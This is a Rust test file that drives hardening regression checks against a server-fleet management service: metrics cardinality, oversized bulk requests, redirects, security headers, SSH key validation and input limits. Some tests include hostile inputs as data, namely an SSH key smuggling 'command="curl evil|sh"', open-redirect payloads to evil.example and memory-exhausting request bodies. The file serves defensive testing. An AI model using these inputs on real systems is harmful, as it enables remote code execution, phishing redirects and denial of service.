//! The defects an outsider found by probing a release build (issue "Hardening"), each driven
//! through the door it was found at: metric labels, bulk-name amplification, IP pool counting,
//! redirects, security headers, SSH keys, text limits, server-function statuses and usernames.
//! (The login throttle is in `auth.rs`; the OpenAPI document in `openapi.rs`.)

#![allow(clippy::unwrap_used, clippy::expect_used)] // test helpers may fail loudly

mod common;

use std::io::{BufRead, BufReader};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{client, spawn, spawn_each_backend, Login, TestServer};
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

async fn body(resp: reqwest::Response) -> (StatusCode, Value) {
    let status = resp.status();
    (status, resp.json().await.unwrap_or(Value::Null))
}

/// The number of series lines (not comments) in `/metrics`.
async fn series(srv: &TestServer) -> usize {
    let text = client().get(srv.at("/metrics")).send().await.unwrap().text().await.unwrap();
    text.lines().filter(|l| !l.starts_with('#') && !l.is_empty()).count()
}

#[tokio::test]
async fn made_up_methods_and_paths_do_not_grow_the_metrics() {
    let srv = spawn().await;
    let http = client();
    // One of each kind first: the shared `other`/`unmatched`/`page` series may appear once.
    let send = |i: usize| {
        let method = Method::from_bytes(format!("FOO{i}").as_bytes()).unwrap();
        let path = match i % 3 {
            0 => "/healthz".to_owned(),
            1 => format!("/api/no-such-thing-{i}"),
            _ => format!("/nowhere/{i}"),
        };
        http.request(method, srv.at(&path)).send()
    };
    for i in 0..3 {
        send(i).await.unwrap();
    }
    // Once first, so that `GET /metrics` itself has its series before counting starts.
    series(&srv).await;
    let before = series(&srv).await;
    // 10,000 more, 16 at a time, each with a method and a path never seen before.
    let started = Instant::now();
    let mut next = 3;
    while next < 10_003 {
        let batch: Vec<_> = (next..(next + 16).min(10_003)).map(send).collect();
        for r in futures_util::future::join_all(batch).await {
            assert!(!r.unwrap().status().is_server_error());
        }
        next += 16;
        assert!(started.elapsed() < Duration::from_secs(120), "the load loop is bounded in time");
    }
    assert_eq!(series(&srv).await, before, "10,000 made-up methods and paths added series");
    let text = client().get(srv.at("/metrics")).send().await.unwrap().text().await.unwrap();
    assert!(text.contains("method=\"other\""), "made-up methods share one label");
    assert!(!text.contains("FOO"), "no made-up method became a label");
}

#[tokio::test]
async fn a_huge_name_pattern_is_refused_before_it_is_expanded() {
    let srv = spawn().await;
    let admin = srv.login_as("admin").await;
    let pattern = format!("{}{{n}}", "a".repeat(1_800_000));
    let request =
        json!({ "name_pattern": pattern, "count": 40, "spec": { "template_vm_id": 9000, "disks": [{ "size": 20 }] } });
    let started = Instant::now();
    let resp = admin.post(&srv.at("/api/create_servers_bulk")).json(&request).send().await.unwrap();
    let status = resp.status();
    let text = resp.text().await.unwrap();
    // A guard against the multi-second, 738 MB answer this used to be (debug build, loaded
    // machine: generous); the release figure is in the issue note.
    assert!(started.elapsed() < Duration::from_secs(2), "took {:?}", started.elapsed());
    assert_eq!(status, StatusCode::BAD_REQUEST, "{}", &text[..text.len().min(300)]);
    assert!(text.len() < 2_000, "the answer does not repeat the pattern: {} bytes", text.len());
    let b: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(b["details"]["field"], "name_pattern", "{b}");
}

#[tokio::test]
async fn many_bad_servers_get_a_short_answer_that_counts_the_rest() {
    let srv = spawn().await;
    let admin = srv.login_as("admin").await;
    let servers: Vec<Value> = (0..200)
        .map(|i| json!({ "name": format!("-bad-{i}-{}", "x".repeat(5_000)), "template_vm_id": 9000 }))
        .collect();
    let (status, b) = body(
        admin.post(&srv.at("/api/create_servers_bulk")).json(&json!({ "servers": servers })).send().await.unwrap(),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(b["details"]["errors"].as_array().unwrap().len(), 20, "at most 20 listed");
    assert_eq!(b["details"]["more"], 180);
    assert!(b["error"].as_str().unwrap().ends_with("(and 199 more)"), "{}", b["error"]);
    assert!(b.to_string().len() < 20_000, "{} bytes", b.to_string().len());
}

/// A memory figure of a process, in KiB, from `/proc`: `VmRSS` (now) or `VmHWM` (its peak).
fn mem_kib(pid: u32, field: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix(field))
        .and_then(|v| v.trim_start_matches(':').trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap()
}

/// The real binary in its own process, so its memory can be read: the pattern request no longer
/// grows it (it grew 2.4 GiB per request).
#[tokio::test]
async fn a_huge_name_pattern_does_not_grow_the_servers_memory() {
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}/pf.db", dir.path().display());
    let password = "hardening-test-Pa55word";
    let mut child = Command::new(env!("CARGO_BIN_EXE_proxfleet"))
        .args(["--listen", "127.0.0.1:0", "--database-url", &db, "--sim-profile", "instant", "--log", "warn"])
        .env("PROXFLEET_ADMIN_PASSWORD", password)
        // Two malloc arenas: memory freed by one request is reused by the next whichever
        // thread serves it, so RSS measures what the request keeps, not the allocator's layout.
        .env("MALLOC_ARENA_MAX", "2")
        // A fixed mmap threshold: glibc otherwise raises it to the size of the last large block
        // freed, and the next 2 MB body would come from (and stay in) the heap, so RSS would
        // count the allocator's high-water mark rather than anything the server keeps.
        .env("MALLOC_MMAP_THRESHOLD_", "131072")
        .env_remove("PROXFLEET_CONFIG")
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let url = line.trim().strip_prefix("proxfleet is running at ").unwrap().trim_end_matches('/').to_owned();
    let http = client();
    let login = http
        .post(format!("{url}/login"))
        .json(&json!({"username": "admin", "password": password}))
        .send()
        .await
        .unwrap();
    let cookie = login.headers()["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_owned();
    let request = json!({ "name_pattern": format!("{}{{n}}", "a".repeat(1_800_000)), "count": 40, "spec": { "template_vm_id": 9000 } });
    let send = || {
        http.post(format!("{url}/api/create_servers_bulk"))
            .header("cookie", &cookie)
            .header("origin", &url)
            .json(&request)
            .send()
    };
    let peak_before = mem_kib(child.id(), "VmHWM");
    for _ in 0..2 {
        assert_eq!(send().await.unwrap().status(), StatusCode::BAD_REQUEST, "warm-up");
    }
    let before = mem_kib(child.id(), "VmRSS");
    for _ in 0..5 {
        assert_eq!(send().await.unwrap().status(), StatusCode::BAD_REQUEST);
    }
    let grown = mem_kib(child.id(), "VmRSS").saturating_sub(before);
    // The peak catches an expansion that is freed again before the answer: forty 1.8 MB names
    // alone would be 72 MB. What remains is the body itself and its parsed copy.
    let peak = mem_kib(child.id(), "VmHWM").saturating_sub(peak_before);
    eprintln!("RSS grew {grown} KiB over five requests; the peak rose {peak} KiB");
    let _ = child.kill();
    let _ = child.wait();
    assert!(grown < 5 * 1024, "RSS grew {grown} KiB over five requests");
    assert!(peak < 16 * 1024, "the peak RSS rose {peak} KiB");
}

async fn create_pool(admin: &Login, srv: &TestServer, pool: Value) -> (StatusCode, Value) {
    body(admin.post(&srv.at("/api/ip-pools")).json(&pool).send().await.unwrap()).await
}

#[tokio::test]
async fn a_slash_8_pool_with_a_hundred_ranges_lists_at_once_and_healthz_is_unaffected() {
    for srv in spawn_each_backend().await {
        let admin = srv.login_as("admin").await;
        let reserved: Vec<String> = (0..100).map(|i| format!("10.{i}.0.0-10.{i}.0.255")).collect();
        let (status, b) = create_pool(
            &admin,
            &srv,
            json!({ "name": "huge", "cidr": "10.0.0.0/8", "gateway": "10.255.255.254", "bridge": "vmbr0", "reserved": reserved.join(",") }),
        )
        .await;
        assert_eq!(status, StatusCode::CREATED, "{b}");
        // Every host but the reserved ranges (the first loses the network address) and the gateway.
        assert_eq!(b["data"]["size"], 16_777_214 - (100 * 256 - 1) - 1, "{b}");
        // Four lists at once, and a health check among them.
        let lists: Vec<_> = (0..4).map(|_| admin.get(&srv.at("/api/ip-pools")).send()).collect();
        let started = Instant::now();
        let (lists, health) =
            tokio::join!(futures_util::future::join_all(lists), client().get(srv.at("/healthz")).send());
        assert_eq!(health.unwrap().status(), StatusCode::OK);
        for l in lists {
            let (status, b) = body(l.unwrap()).await;
            assert_eq!(status, StatusCode::OK);
            assert_eq!(b["data"][0]["name"], "huge");
        }
        // Walking the addresses took 4.3 s per list in a release build; counting ranges takes
        // microseconds. A wide margin for a debug build on a loaded machine.
        assert!(started.elapsed() < Duration::from_secs(1), "{:?} on {}", started.elapsed(), srv.backend());
    }
}

#[tokio::test]
async fn redirects_never_leave_the_site_from_either_door() {
    let srv = spawn().await;
    let host = srv.url.trim_start_matches("http://").to_owned();
    for referer in [
        format!("http://{host}/\\evil.example"),
        format!("http://{host}//evil.example"),
        "https://evil.example/".into(),
    ] {
        let resp = client()
            .post(srv.at("/prefs"))
            .header("referer", &referer)
            .header("origin", &srv.url)
            .form(&[("theme", "dark")])
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::SEE_OTHER);
        assert_eq!(resp.headers()["location"], "/", "{referer}");
    }
    let back = client()
        .post(srv.at("/prefs"))
        .header("referer", format!("http://{host}/servers?page=2"))
        .form(&[("lang", "ko")])
        .send()
        .await
        .unwrap();
    assert_eq!(back.headers()["location"], "/servers?page=2", "a page of ours is fine");

    srv.add_user("kim", "viewer").await;
    for next in ["/\\evil.example", "//evil.example", "/\t/evil.example", "https://evil.example"] {
        let resp = client()
            .post(srv.at("/login"))
            .form(&[("username", "kim"), ("password", common::PASSWORD), ("next", next)])
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::SEE_OTHER);
        assert_eq!(resp.headers()["location"], "/", "{next:?}");
    }
}

#[tokio::test]
async fn answers_carry_security_headers_and_pages_a_nonce_policy() {
    let srv = spawn().await;
    let admin = srv.login_as("admin").await;
    for (what, resp) in [
        ("JSON", client().get(srv.at("/api/system/info")).send().await.unwrap()),
        ("redirect", client().get(srv.at("/servers")).send().await.unwrap()),
        ("metrics", client().get(srv.at("/metrics")).send().await.unwrap()),
    ] {
        assert_eq!(resp.headers()["x-content-type-options"], "nosniff", "{what}");
        assert_eq!(resp.headers()["referrer-policy"], "same-origin", "{what}");
    }
    for path in ["/login", "/servers", "/no-such-page"] {
        let who = if path == "/login" { client().get(srv.at(path)) } else { admin.get(&srv.at(path)) };
        let resp = who.send().await.unwrap();
        assert!(resp.headers()["content-type"].to_str().unwrap().starts_with("text/html"), "{path}");
        assert_eq!(resp.headers()["x-frame-options"], "DENY", "{path}");
        let csp = resp.headers()["content-security-policy"].to_str().unwrap().to_owned();
        let nonce = csp
            .split("'nonce-")
            .nth(1)
            .and_then(|r| r.split('\'').next())
            .unwrap_or_else(|| panic!("{path}: no nonce in {csp}"));
        for part in [
            "default-src 'self'",
            "'wasm-unsafe-eval'",
            "style-src 'self';",
            "frame-ancestors 'none'",
            "base-uri 'none'",
            "form-action 'self'",
        ] {
            assert!(csp.contains(part), "{path}: {part} missing from {csp}");
        }
        let html = resp.text().await.unwrap();
        // Every inline script carries this answer's nonce; no inline style anywhere.
        let scripts = html.matches("<script").count();
        assert!(scripts > 0, "{path}: Leptos' hydration script is missing");
        assert_eq!(html.matches(&format!("nonce=\"{nonce}\"")).count(), scripts, "{path}: a script without the nonce");
        assert!(!html.contains(" style=\""), "{path}: an inline style attribute");
    }
    let first = client().get(srv.at("/login")).send().await.unwrap().headers()["content-security-policy"].clone();
    let second = client().get(srv.at("/login")).send().await.unwrap().headers()["content-security-policy"].clone();
    assert_ne!(first, second, "a fresh nonce per answer");
    let docs = client().get(srv.at("/api/docs")).send().await.unwrap();
    let csp = docs.headers()["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("script-src 'self' 'wasm-unsafe-eval';") && !csp.contains("nonce"), "{csp}");
}

#[tokio::test]
async fn an_ssh_key_with_a_second_line_is_refused_and_nothing_is_created() {
    let srv = spawn().await;
    let admin = srv.login_as("admin").await;
    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C7okWi4q5AJwWT0V ops";
    for (keys, field) in [
        (json!([format!("{key}\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ evil")]), "ssh_keys[0]"),
        (json!([key, format!("command=\"curl evil|sh\" {key}")]), "ssh_keys[1]"),
        (json!(["ssh-ed25519 AAAA"]), "ssh_keys[0]"),
    ] {
        let spec = json!({ "name": "web-1", "template_vm_id": 9000, "disks": [{"size": 20}], "ssh_keys": keys });
        let (status, b) = body(admin.post(&srv.at("/api/servers")).json(&spec).send().await.unwrap()).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{b}");
        assert!(b["details"]["field"].as_str().unwrap().ends_with(field), "{b}");
    }
    let (_, jobs) = body(admin.get(&srv.at("/api/jobs")).send().await.unwrap()).await;
    assert_eq!(jobs["data"].as_array().map(Vec::len), Some(0), "no job was started: {jobs}");
}

#[tokio::test]
async fn free_text_has_limits_that_name_the_field() {
    for srv in spawn_each_backend().await {
        let admin = srv.login_as("admin").await;
        let pool =
            json!({ "name": "p1", "cidr": "10.1.0.0/24", "bridge": "vmbr0", "description": "x".repeat(1_500_000) });
        let (status, b) = create_pool(&admin, &srv, pool).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{b}");
        assert_eq!(b["details"]["field"], "description");
        assert!(
            b["error"].as_str().unwrap().contains(&domain::limits::DESCRIPTION.to_string()),
            "the limit is said: {b}"
        );
        let (_, pools) = body(admin.get(&srv.at("/api/ip-pools")).send().await.unwrap()).await;
        assert_eq!(pools["data"], json!([]), "nothing was stored");
        let user = json!({ "username": "lee", "password": "a long enough passphrase", "name": "x".repeat(129) });
        let (status, b) = body(admin.post(&srv.at("/api/users")).json(&user).send().await.unwrap()).await;
        assert_eq!((status, &b["details"]["field"]), (StatusCode::BAD_REQUEST, &json!("name")), "{b}");
        let spec = json!({ "name": "web-1", "template_vm_id": 9000, "disks": [{"size": 20}], "tags": vec!["t"; 33] });
        let (status, b) = body(admin.post(&srv.at("/api/servers")).json(&spec).send().await.unwrap()).await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        assert!(b["details"]["field"].as_str().unwrap().ends_with("tags"), "{b}");
    }
}

#[tokio::test]
async fn server_functions_answer_401_and_403_like_rest() {
    let srv = spawn().await;
    // Functions that also serve anonymous callers still answer 200 to them.
    let who = client()
        .post(srv.at("/sfn/current_user"))
        .header("content-type", "application/x-www-form-urlencoded")
        .send()
        .await
        .unwrap();
    assert_eq!(who.status(), StatusCode::OK, "{}", who.text().await.unwrap());
    let anonymous = client()
        .post(srv.at("/sfn/list_users"))
        .header("content-type", "application/x-www-form-urlencoded")
        .send()
        .await
        .unwrap();
    assert_eq!(anonymous.status(), StatusCode::UNAUTHORIZED, "{}", anonymous.text().await.unwrap());
    let viewer = srv.login_as("viewer").await;
    let refused = viewer
        .post(&srv.at("/sfn/list_users"))
        .header("content-type", "application/x-www-form-urlencoded")
        .send()
        .await
        .unwrap();
    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
    let admin = srv.login_as("admin").await;
    let ok = admin
        .post(&srv.at("/sfn/list_users"))
        .header("content-type", "application/x-www-form-urlencoded")
        .send()
        .await
        .unwrap();
    assert_eq!(ok.status(), StatusCode::OK);
}

#[tokio::test]
async fn usernames_are_unique_whatever_their_case() {
    for srv in spawn_each_backend().await {
        let admin = srv.login_as("admin").await;
        let create = |name: &str| {
            admin
                .post(&srv.at("/api/users"))
                .json(&json!({ "username": name, "password": "a long enough passphrase" }))
                .send()
        };
        assert_eq!(create("kim.lee").await.unwrap().status(), StatusCode::CREATED);
        for clash in ["Kim.Lee", "KIM.LEE"] {
            let (status, b) = body(create(clash).await.unwrap()).await;
            assert_eq!(status, StatusCode::CONFLICT, "{clash} on {}: {b}", srv.backend());
            assert!(b["error"].as_str().unwrap().contains("kim.lee"), "names the existing user: {b}");
        }
        // The store itself refuses too (the unique index), whichever door is used.
        let hash = domain::auth::password::hash("whatever it is 123").unwrap();
        let direct = srv
            .services
            .users
            .create(domain::users::NewUser {
                username: "KIM.lee",
                password_hash: &hash,
                role: "viewer",
                ..Default::default()
            })
            .await;
        assert!(matches!(direct, Err(domain::Error::Conflict(_))), "{direct:?}");
    }
}
